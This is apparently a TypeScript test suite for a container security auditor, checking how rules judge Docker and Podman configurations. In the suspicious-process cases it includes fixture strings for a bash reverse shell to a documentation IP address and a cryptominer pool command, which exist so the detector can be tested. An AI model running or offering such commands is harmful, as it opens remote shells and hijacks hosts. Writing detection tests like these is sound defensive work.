import {describe, expect, it} from 'vitest';
import {type HostConfig, known, unknown} from '../../src/answers/index.js';
import type {Severity} from '../../src/facts/index.js';
import {judgeContainer} from '../../src/rules/judge.js';
import type {ContainerExample} from '../../src/rules/rule.js';
import {
	exampleAttachment,
	exampleBridge,
	exampleExec,
	exampleMount,
	exampleProcess,
	exampleTruth,
	rootProcess,
	withExec,
} from '../../src/rules/shared/examples.js';
import {own} from '../../src/terminal/safe-text.js';
import {containerScope} from '../support/example-scope.js';

type Case = [what: string, example: ContainerExample, verdict: string, severity?: Severity, detail?: RegExp];

const id = (letter: string) => letter.repeat(64);
const published = (address: string, hostPort: string, inside: string): ContainerExample => ({
	HostConfig: {PortBindings: {[inside]: [{HostIp: address, HostPort: hostPort}]}},
	NetworkSettings: {Ports: {[inside]: [{HostIp: address, HostPort: hostPort}]}},
});
const podman = (host: HostConfig): ContainerExample => ({
	HostConfig: {Annotations: {'io.container.manager': 'libpod'}, ...host},
});
const socket: ContainerExample = {
	Mounts: [{Type: 'bind', Source: '/var/run/docker.sock', Destination: '/var/run/docker.sock', RW: false}],
};
const noInfo: ContainerExample['engine'] = {rootless: null, userns: null, cgroupVersion: null, noNewPrivilegesDefault: null};
const namedVolume: ContainerExample = {
	Mounts: [{Type: 'volume', Name: 'data', Source: '/var/lib/docker/volumes/data/_data', Destination: '/d', RW: true}],
};
const refusedVolumes: ContainerExample['engine'] = {blindSpots: [{source: 'engine:/volumes', reason: '403 from a proxy'}]};
const withoutIcc: ContainerExample['engine'] = {defaultBridge: exampleBridge({icc: false})};
const writableBind = (path: string, RW = true) => ({Type: 'bind', Source: path, Destination: path, RW});
const filters = (dockerUserFilters: boolean | null, ufw: boolean | null = true) => ({
	firewall: known({ufw, firewalld: ufw === null ? null : false, dockerUserFilters, ipv6Filtered: null}),
});
const running = (...list: Parameters<typeof exampleProcess>[0][]): ContainerExample['facts'] => ({
	processes: known(list.map(name => rootProcess(name))),
});

/** Beside the two examples of each rule: steps of severity, what is not known, what does not apply. */
const cases: Readonly<Record<string, readonly Case[]>> = {
	'container-root-user': [
		['nobody looked', {Config: {User: ''}}, 'fail', 'medium'],
		['a name that only the image resolves', {Config: {User: 'app'}}, 'unknown'],
		['a name that /proc resolves', {Config: {User: 'app'}, facts: {truth: exampleTruth({uids: [33, 33, 33, 33]})}}, 'pass'],
		[
			'a name that /proc shows to be root',
			{Config: {User: 'app'}, facts: {truth: exampleTruth({uids: [0, 0, 0, 0]})}},
			'fail',
			'medium',
		],
		[
			'uid 0 of the host is hidden by a user namespace',
			{Config: {User: 'app'}, engine: {userns: true}, facts: {processes: known([exampleProcess('x', {uid: 100_000})])}},
			'unknown',
		],
		['root that dropped', {Config: {User: ''}, facts: {processes: known([exampleProcess('redis')])}}, 'fail', 'low', /dropped/],
		[
			'one root among others',
			{Config: {User: ''}, facts: {processes: known([rootProcess('nginx'), exampleProcess('nginx')])}},
			'fail',
			'medium',
			/1 of 2/,
		],
	],
	'container-sensitive-mount': [
		['a volume whose options were refused', {...namedVolume, engine: refusedVolumes}, 'unknown'],
		['a volume whose options were seen', namedVolume, 'pass'],
	],
	'container-runtime-socket': [['a volume whose options were refused', {...namedVolume, engine: refusedVolumes}, 'unknown']],
	'container-host-userns': [
		['nothing is remapped', {HostConfig: {UsernsMode: 'host'}}, 'info'],
		['the engine has not said', {HostConfig: {UsernsMode: 'host'}, engine: noInfo}, 'unknown'],
		['privileged too', {HostConfig: {UsernsMode: 'host', Privileged: true}, engine: {userns: true}}, 'fail', 'high'],
	],
	'container-capabilities': [
		['one that is not dangerous', {HostConfig: {CapAdd: ['SYS_NICE']}}, 'fail', 'medium', /SYS_NICE/],
		['one that is', {HostConfig: {CapAdd: ['SYS_ADMIN']}}, 'fail', 'high'],
		['all but one', {HostConfig: {CapAdd: ['ALL'], CapDrop: ['SYS_ADMIN']}}, 'fail', 'high', /\d+ capabilities/],
	],
	'container-escape-capability': [
		['a module', {HostConfig: {CapAdd: ['SYS_MODULE']}}, 'fail', 'critical', /kernel module/],
		['SYS_ADMIN alone', {HostConfig: {CapAdd: ['SYS_ADMIN']}}, 'fail', 'high'],
		['NET_ADMIN on its own network', {HostConfig: {CapAdd: ['NET_ADMIN']}}, 'pass'],
		['NET_ADMIN on the network of the host', {HostConfig: {CapAdd: ['NET_ADMIN'], NetworkMode: 'host'}}, 'fail', 'high'],
		['ALL, which wins over dropping all', {HostConfig: {CapAdd: ['ALL'], CapDrop: ['ALL']}}, 'fail', 'critical'],
	],
	'container-cgroup-release-agent': [
		['no capability, whatever the engine', {engine: noInfo}, 'pass'],
		['the engine has not said', {HostConfig: {CapAdd: ['SYS_ADMIN']}, engine: noInfo}, 'unknown'],
	],
	'container-ptrace-host': [
		[
			'among processes of a privileged container',
			{
				HostConfig: {PidMode: `container:${id('a')}`, CapAdd: ['SYS_PTRACE']},
				others: [{Id: id('a'), Name: '/ci', HostConfig: {Privileged: true}}],
			},
			'fail',
			'high',
		],
		['a container that is not visible', {HostConfig: {PidMode: `container:${id('e')}`, CapAdd: ['SYS_PTRACE']}}, 'unknown'],
		['privileged among processes of the host', {HostConfig: {PidMode: 'host', Privileged: true}}, 'fail', 'critical'],
	],
	'container-host-pid-root': [
		['a name that only the image resolves', {HostConfig: {PidMode: 'host'}, Config: {User: 'app'}}, 'unknown'],
	],
	'container-mount-propagation': [
		[
			'with the power to mount',
			{
				HostConfig: {CapAdd: ['SYS_ADMIN']},
				Mounts: [{Type: 'bind', Source: '/srv', Destination: '/s', RW: true, Propagation: 'shared'}],
			},
			'fail',
			'critical',
		],
	],
	'container-memory-limit': [
		[
			'a kernel that keeps none',
			{HostConfig: {Memory: 268_435_456}, engineInfo: {MemoryLimit: false}},
			'fail',
			'low',
			/not kept/,
		],
		['swap without end', {HostConfig: {Memory: 268_435_456, MemorySwap: -1}}, 'pass'],
	],
	'container-pids-limit': [
		['a kernel that keeps none', {HostConfig: {PidsLimit: 100}, engineInfo: {PidsLimit: false}}, 'fail', 'low', /not kept/],
		['a kernel that says so', {HostConfig: {PidsLimit: 100}, engineInfo: {PidsLimit: true}}, 'pass'],
	],
	'container-cpu-limit': [
		[
			'a kernel that keeps none of them',
			{HostConfig: {NanoCpus: 5e8}, engineInfo: {CpuCfsQuota: false, CPUShares: false, CPUSet: false}},
			'fail',
			'low',
			/not kept/,
		],
		['a kernel that keeps some', {HostConfig: {NanoCpus: 5e8}, engineInfo: {CpuCfsQuota: true, CPUShares: false}}, 'pass'],
	],
	'container-devices': [
		['a gpu', {HostConfig: {DeviceRequests: [{Count: -1, Capabilities: [['gpu']]}]}}, 'fail'],
		['a bind of /dev', {Mounts: [{Type: 'bind', Source: '/dev', Destination: '/dev', RW: true}]}, 'fail'],
		['a bind of /dev/null', {Mounts: [{Type: 'bind', Source: '/dev/null', Destination: '/etc/motd', RW: false}]}, 'pass'],
	],
	'container-device-rules': [
		['a rule for one terminal', {HostConfig: {DeviceCgroupRules: ['c 188:0 rw']}}, 'pass'],
		[
			'the node is mounted, so none need be made',
			{
				HostConfig: {DeviceCgroupRules: ['b 8:* rw'], CapDrop: ['ALL']},
				Mounts: [{Type: 'bind', Source: '/dev/sda', Destination: '/sda', RW: false}],
			},
			'fail',
			'critical',
		],
	],
	'container-system-paths': [
		['privileged', {HostConfig: {Privileged: true, MaskedPaths: null, ReadonlyPaths: null}}, 'fail', 'critical'],
		['for another user', {Config: {User: '1000'}, HostConfig: {MaskedPaths: [], ReadonlyPaths: []}}, 'fail', 'high'],
		['not reported', {HostConfig: {MaskedPaths: undefined, ReadonlyPaths: undefined}}, 'unknown'],
	],
	'container-symlink-mount': [
		['binds that nobody could look at', {Mounts: [{Type: 'bind', Source: '/srv/a', Destination: '/a', RW: true}]}, 'unknown'],
		[
			'a bind below one that it may write',
			{Mounts: [writableBind('/srv/app'), writableBind('/srv/app/conf', false)]},
			'fail',
			'medium',
			/\/srv\/app\/conf can be replaced by a link through \/srv\/app$/,
		],
		[
			'the same for a user who may not be able to',
			{Config: {User: '1000'}, Mounts: [writableBind('/srv/app'), writableBind('/srv/app/conf', false)]},
			'fail',
			'low',
		],
		['a bind below one that is read-only', {Mounts: [writableBind('/srv/app', false), writableBind('/srv/app/conf')]}, 'unknown'],
		['binds side by side', {Mounts: [writableBind('/srv/app'), writableBind('/srv/app.conf')]}, 'unknown'],
		['binds of a host that was seen', {facts: {mounts: [exampleMount({source: own('/srv/a'), destination: own('/a')})]}}, 'pass'],
	],
	'container-seccomp': [
		['an engine without seccomp', {engineInfo: {SecurityOptions: null}}, 'fail', 'high'],
		[
			'privileged with a profile of its own',
			{HostConfig: {Privileged: true, SecurityOpt: ['seccomp={"defaultAction":"SCMP_ACT_ERRNO"}']}},
			'pass',
		],
		['a profile that is no JSON', {HostConfig: {SecurityOpt: ['seccomp={"defaultAction":']}}, 'unknown'],
		['a profile that lies on the host', {HostConfig: {SecurityOpt: ['seccomp=/etc/seccomp.json']}}, 'unknown'],
	],
	'container-seccomp-profile': [
		['none', {HostConfig: {SecurityOpt: ['seccomp=unconfined']}}, 'not-applicable'],
		[
			'bpf',
			{
				HostConfig: {
					SecurityOpt: ['seccomp={"defaultAction":"SCMP_ACT_ERRNO","syscalls":[{"names":["bpf"],"action":"SCMP_ACT_ALLOW"}]}'],
				},
			},
			'fail',
			'high',
			/bpf/,
		],
	],
	'container-cgroup-namespace': [
		['version 1', {HostConfig: {CgroupnsMode: 'host'}}, 'not-applicable'],
		['the engine has not said', {HostConfig: {CgroupnsMode: 'host'}, engine: noInfo}, 'unknown'],
	],
	'container-image-drift': [
		['made from an id', {Config: {Image: `sha256:${'1'.repeat(64)}`}}, 'not-applicable'],
		['pinned by a digest', {Config: {Image: `nginx@sha256:${'2'.repeat(64)}`}, image: {RepoTags: []}}, 'pass'],
		['another tag of the same image', {Config: {Image: 'nginx:1.27'}, image: {RepoTags: ['nginx:1.28']}}, 'fail'],
	],
	'container-latest-tag': [
		['latest', {Config: {Image: 'nginx:latest'}}, 'fail'],
		['a port, no tag', {Config: {Image: 'localhost:5000/nginx'}}, 'fail'],
		['latest with a digest', {Config: {Image: `nginx:latest@sha256:${'2'.repeat(64)}`}}, 'pass'],
		['an id', {Config: {Image: '0123456789ab'}}, 'pass'],
	],
	'container-registry': [
		['no policy', {}, 'not-applicable'],
		['an official image by its short name', {Config: {Image: 'nginx'}, settings: {allowedRegistries: ['docker.io']}}, 'pass'],
		[
			'an id, whose digest names another registry',
			{
				Config: {Image: '0123456789ab'},
				image: {RepoDigests: [`evil.example/x@sha256:${'2'.repeat(64)}`]},
				settings: {allowedRegistries: ['docker.io']},
			},
			'fail',
		],
	],
	'container-required-flags': [
		['none required', {}, 'not-applicable'],
		['a flag that cannot be seen', {settings: {requiredFlags: ['--security-opt seccomp=/etc/profile.json']}}, 'unknown'],
		[
			'several',
			{HostConfig: {ReadonlyRootfs: true}, settings: {requiredFlags: ['--read-only', '--memory', '--user']}},
			'fail',
			'medium',
			/--memory, --user/,
		],
		[
			'no-new-privileges by the engine',
			{
				engineInfo: {SecurityOptions: ['name=no-new-privileges']},
				settings: {requiredFlags: ['--security-opt no-new-privileges']},
			},
			'pass',
		],
	],
	'container-ssh-server': [
		['not running', {State: {Status: 'exited', Running: false}}, 'unknown'],
		['not running, and starts one', {State: {Status: 'exited', Running: false}, Path: '/usr/sbin/dropbear'}, 'fail'],
	],
	'container-exec-root': [
		['the health check', withExec({user: own('0'), isHealthcheck: true}), 'pass'],
		['one that has ended', withExec({user: own('0'), running: false}), 'pass'],
		['in a container of root', {ExecIDs: ['e1'], Config: {User: ''}, facts: {execs: known([exampleExec({})])}}, 'pass'],
		['nobody looked', {ExecIDs: ['e1'], Config: {User: '1000'}}, 'unknown'],
		['not running', {State: {Status: 'exited', Running: false}}, 'not-applicable'],
	],
	'container-live-shell': [
		['a command', {ExecIDs: ['e1'], facts: {execs: known([exampleExec({command: own('sh -c date')})])}}, 'pass'],
	],
	'container-process-user': [
		[
			'a user whose name stands for uid 0',
			{Config: {User: 'toor'}, State: {Status: 'running', Running: true, Pid: 42}, facts: {processes: known([rootProcess('x')])}},
			'not-applicable',
		],
		[
			'a user namespace shifts the uids',
			{Config: {User: '1000'}, engine: {userns: true}, facts: {processes: known([rootProcess('x')])}},
			'unknown',
		],
		['configured as root', {Config: {User: ''}, facts: running('x')}, 'not-applicable'],
	],
	'container-suspicious-process': [
		[
			'a miner by its pool',
			{facts: {processes: known([exampleProcess('java', {args: own('java -jar x.jar stratum+tcp://pool:3333')})])}},
			'fail',
			'high',
			/miner/,
		],
		[
			'a reverse shell',
			{facts: {processes: known([exampleProcess('bash', {args: own('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')})])}},
			'fail',
			'high',
			/reverse shell/,
		],
		[
			'a script that waits for a port',
			{
				facts: {
					processes: known([exampleProcess('bash', {args: own('bash -c until (echo > /dev/tcp/db/5432); do sleep 1; done')})]),
				},
			},
			'pass',
		],
		['a probe with nc', {facts: {processes: known([exampleProcess('nc', {args: own('nc -z localhost 80')})])}}, 'pass'],
		[
			'a shell under a server',
			{facts: {processes: known([exampleProcess('nginx', {pid: 7}), exampleProcess('sh', {pid: 9, parent: 7})])}},
			'fail',
			'medium',
			/started by nginx/,
		],
		['a scheduler', {facts: running('crond')}, 'fail', 'low'],
		['not running', {State: {Status: 'exited', Running: false}}, 'not-applicable'],
	],
	'container-root-group': [
		['root itself', {Config: {User: ''}}, 'not-applicable'],
		['a number without a group, not seen running', {Config: {User: '1000'}}, 'unknown'],
		['seen in /proc', {Config: {User: '1000'}, facts: {truth: exampleTruth({gids: [0, 0, 0, 0]})}}, 'fail'],
		[
			'shifted by a user namespace',
			{
				Config: {User: '1000'},
				facts: {truth: exampleTruth({uidMapIsIdentity: false, gids: [100_000, 100_000, 100_000, 100_000]})},
			},
			'unknown',
		],
		['asked for', {Config: {User: '1000:0'}}, 'fail'],
	],
	'container-socket-group': [
		['root', {...socket, Config: {User: ''}}, 'not-applicable'],
		['no group', {...socket, Config: {User: '1000'}}, 'pass'],
		['a host that cannot be seen', {...socket, Config: {User: '1000:1000'}, HostConfig: {GroupAdd: ['998']}}, 'unknown'],
		['by its name', {...socket, Config: {User: '1000:1000'}, HostConfig: {GroupAdd: ['docker']}}, 'fail', 'critical'],
		[
			'another group',
			{...socket, Config: {User: '1000:1000'}, host: {socketGroup: known({group: own('docker'), gid: 998, members: []})}},
			'pass',
		],
	],
	'container-socket-proxy': [
		['not a proxy', socket, 'pass'],
		[
			'whoever serves the API beside the socket',
			{...socket, Config: {Image: 'socat', ExposedPorts: {'2375/tcp': {}}}},
			'fail',
			'high',
			/passes the API on/,
		],
	],
	'container-image-watcher': [
		['with no socket', {Config: {Image: 'portainer/portainer-ce:2.21'}}, 'pass'],
		[
			'under a name of its own',
			{
				...socket,
				Config: {
					Image: 'mirror.example/edge:1',
					Labels: {'org.opencontainers.image.source': 'https://github.com/traefik/Traefik'},
				},
			},
			'fail',
			'medium',
			/^traefik manages/,
		],
		['whose labels say something else', {...socket, Config: {Image: 'edge:1', Labels: {'traefik.enable': 'true'}}}, 'pass'],
	],
	'container-remote-engine': [['ssh', {Config: {Env: ['DOCKER_HOST=ssh://ops@build']}}, 'pass']],
	'container-engine-inside': [
		['dockerd runs in it', {facts: running('dockerd')}, 'fail', 'medium'],
		['on TCP without TLS', {Path: '/usr/bin/dockerd', Args: ['-H', 'tcp://0.0.0.0:2375']}, 'fail', 'high', /without TLS/],
		['on TCP with TLS', {Path: 'dockerd', Args: ['--host=tcp://0.0.0.0:2376', '--tlsverify']}, 'fail', 'medium'],
		['on loopback', {Path: 'dockerd', Args: ['--host=tcp://127.0.0.1:2375']}, 'fail', 'medium'],
		[
			'docker:dind without certificates',
			{Path: 'dockerd-entrypoint.sh', Config: {Env: ['DOCKER_TLS_CERTDIR=']}},
			'fail',
			'high',
			/without TLS/,
		],
		['docker:dind', {Path: 'dockerd-entrypoint.sh', Config: {Env: ['DOCKER_TLS_CERTDIR=/certs']}}, 'fail', 'medium'],
		['with TLS, on every address', published('0.0.0.0', '2376', '2376/tcp'), 'fail', 'high'],
		['without TLS, for this host', published('127.0.0.1', '2375', '2375/tcp'), 'fail', 'high'],
		['a process that mentions it', {facts: {processes: known([exampleProcess('sh', {args: own('sh -c : dockerd')})])}}, 'pass'],
	],
	'container-firewall-bypass': [
		['a remote engine', published('', '80', '80/tcp'), 'unknown'],
		['no firewall', {...published('', '80', '80/tcp'), host: filters(false, false)}, 'not-applicable'],
		['a firewall that cannot be read', {...published('', '80', '80/tcp'), host: filters(false, null)}, 'unknown'],
		['a chain that cannot be read', {...published('', '80', '80/tcp'), host: filters(null)}, 'unknown'],
		['a chain that filters', {...published('', '80', '80/tcp'), host: filters(true)}, 'pass'],
		['a certain address', {...published('192.0.2.1', '80', '80/tcp'), host: filters(false)}, 'fail', 'high'],
	],
	'container-loopback-reach': [
		['podman', {...published('127.0.0.1', '80', '80/tcp'), engine: {kind: 'podman', version: own('5.4.2')}}, 'not-applicable'],
		['a version that cannot be read', {...published('127.0.0.1', '80', '80/tcp'), engine: {version: own('dev')}}, 'unknown'],
	],
	'container-privileged-port': [
		[
			'80 where the host allows it to everyone',
			{...published('127.0.0.1', '80', '80/tcp'), host: {sysctls: {'net.ipv4.ip_unprivileged_port_start': own('80')}}},
			'pass',
		],
		[
			'one that the engine will choose',
			{State: {Status: 'created', Running: false}, HostConfig: {PortBindings: {'80/tcp': [{HostIp: '127.0.0.1', HostPort: ''}]}}},
			'pass',
		],
	],
	'container-flat-network': [
		[
			'a crowd',
			{facts: {networks: [exampleAttachment('big', {peers: Array.from({length: 20}, (_, index) => `c${index}`)})]}},
			'fail',
			'medium',
			/21 containers/,
		],
		[
			'the default bridge has its own rule',
			{
				facts: {
					networks: [
						exampleAttachment('bridge', {defaultBridge: true, peers: Array.from({length: 30}, (_, index) => `c${index}`)}),
					],
				},
			},
			'pass',
		],
	],
	'container-neighbours': [
		[
			'kept apart on paper alone',
			{
				facts: {networks: [exampleAttachment('bridge', {defaultBridge: true, peers: ['x']})]},
				engine: {...withoutIcc, warnings: [own('WARNING: bridge-nf-call-iptables is disabled')]},
			},
			'fail',
			'medium',
		],
		[
			'kept apart',
			{facts: {networks: [exampleAttachment('bridge', {defaultBridge: true, peers: ['x']})]}, engine: withoutIcc},
			'pass',
		],
		['alone there', {facts: {networks: [exampleAttachment('bridge', {defaultBridge: true})]}}, 'pass'],
		[
			'the engine has not said',
			{
				facts: {networks: [exampleAttachment('bridge', {defaultBridge: true, peers: ['x']})]},
				engine: {defaultBridge: unknown('engine:/networks', 'refused')},
			},
			'unknown',
		],
	],
	'container-persistent-root': [
		[
			'a socket',
			{...socket, HostConfig: {RestartPolicy: {Name: 'unless-stopped', MaximumRetryCount: 0}}},
			'fail',
			'medium',
			/docker\.sock/,
		],
		[
			'stopped',
			{
				State: {Status: 'exited', Running: false},
				HostConfig: {Privileged: true, RestartPolicy: {Name: 'always', MaximumRetryCount: 0}},
			},
			'fail',
		],
		['nothing to own', {HostConfig: {RestartPolicy: {Name: 'always', MaximumRetryCount: 0}}}, 'pass'],
	],
	'container-oom-protection': [
		['never killed, no limit', {HostConfig: {OomKillDisable: true}}, 'fail', 'medium', /no memory limit/],
		['never killed within a limit', {HostConfig: {OomKillDisable: true, Memory: 100_000_000}}, 'fail', 'low'],
	],
	'container-pinned-hosts': [
		['a private name', {HostConfig: {ExtraHosts: ['db.internal:10.0.0.7']}}, 'info'],
		['the host itself', {HostConfig: {ExtraHosts: ['host.docker.internal:host-gateway']}}, 'info'],
	],
	'container-loader-environment': [
		[
			'an empty place means the working directory',
			{Config: {Env: ['LD_LIBRARY_PATH=:/usr/lib']}},
			'fail',
			'medium',
			/working directory/,
		],
		[
			'a writable mount',
			{
				Config: {Env: ['PATH=/data/bin:/usr/bin']},
				Mounts: [{Type: 'volume', Name: 'd', Source: '/x', Destination: '/data', RW: true}],
			},
			'fail',
		],
		[
			'a read-only mount',
			{
				Config: {Env: ['PATH=/data/bin:/usr/bin']},
				Mounts: [{Type: 'volume', Name: 'd', Source: '/x', Destination: '/data', RW: false}],
			},
			'pass',
		],
	],
	'container-runtime': [['the default', {HostConfig: {Runtime: ''}}, 'pass']],
	'container-truth-user': [
		[
			'a user namespace',
			{Config: {User: '1000'}, facts: {truth: exampleTruth({uidMapIsIdentity: false, uids: [0, 0, 0, 0]})}},
			'not-applicable',
		],
	],
	'container-cgroup-parent': [
		['the pod’s own group', podman({CgroupParent: `/libpod_parent/${'c'.repeat(64)}`}), 'pass'],
		['the pod’s own slice', podman({CgroupParent: `user.slice/user-libpod_pod_${'c'.repeat(64)}.slice`}), 'pass'],
		['a pod in a group of its own choice', podman({CgroupParent: `/batch/${'c'.repeat(64)}`}), 'fail', 'low'],
	],
	'container-log-limit': [
		['Podman’s answer for Docker, which tells no size', podman({LogConfig: {Type: 'json-file', Config: null}}), 'unknown'],
		['Podman’s own answer without a size', podman({LogConfig: {Type: 'k8s-file', Size: '0B'}}), 'fail'],
		['Podman’s own answer with one', podman({LogConfig: {Type: 'k8s-file', Size: '10MB'}}), 'pass'],
		['another driver', {HostConfig: {LogConfig: {Type: 'journald', Config: {}}}}, 'not-applicable'],
	],
	'container-truth-capabilities': [
		['nobody looked', {}, 'unknown'],
		['not running', {State: {Status: 'exited', Running: false}}, 'not-applicable'],
		['fewer than granted', {facts: {truth: exampleTruth({effective: new Set(), bounding: new Set()})}}, 'pass'],
	],
	'container-published-unused': [
		[
			'something listens',
			{
				...published('', '80', '80/tcp'),
				facts: {
					truth: exampleTruth({inNetwork: known([{protocol: 'tcp', family: 6, address: own('::'), port: 80, process: null}])}),
				},
			},
			'pass',
		],
		[
			'a container that joined its network listens there',
			{
				...published('', '80', '80/tcp'),
				facts: {
					truth: exampleTruth({
						listening: known([]),
						inNetwork: known([{protocol: 'tcp', family: 6, address: own('::'), port: 80, process: null}]),
					}),
				},
			},
			'pass',
		],
		['the sockets cannot be read', {...published('', '80', '80/tcp'), facts: {truth: exampleTruth({})}}, 'unknown'],
	],
};

describe.each(Object.entries(cases))('%s', (slug, rows) => {
	it.each(rows.map(([what, ...rest]) => ({what, rest})))('$what', ({rest: [example, verdict, severity, detail]}) => {
		const found = judgeContainer(containerScope(example)).find(({rule}) => rule === slug);
		expect(found).toMatchObject({verdict, ...(severity === undefined ? {} : {severity})});
		if (detail !== undefined) expect(found?.detail).toMatch(detail);
		if (verdict === 'unknown') expect(found?.reasons.every(({reason}) => reason.length > 5)).toBe(true);
	});
});
